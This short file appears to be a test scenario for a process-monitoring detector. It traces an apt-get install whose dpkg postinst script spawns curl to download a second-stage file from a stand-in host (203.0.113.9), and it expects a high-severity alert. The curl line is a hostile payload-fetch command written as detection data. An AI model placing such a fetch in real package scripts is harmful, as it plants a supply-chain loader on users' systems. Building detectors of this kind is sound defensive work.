# A poisoned package fetches its second part.
apt is /usr/bin/apt-get
apt fork dpkg
dpkg exec /usr/bin/dpkg "dpkg --configure x"
dpkg fork post
post exec /usr/bin/dash "/bin/sh /var/lib/dpkg/info/x.postinst configure"
post fork curl
curl exec /usr/bin/curl "curl -o /usr/lib/x http://203.0.113.9/x"
curl connect tcp:10.0.0.1:40000>203.0.113.9:8080
expect high a package's script calls out
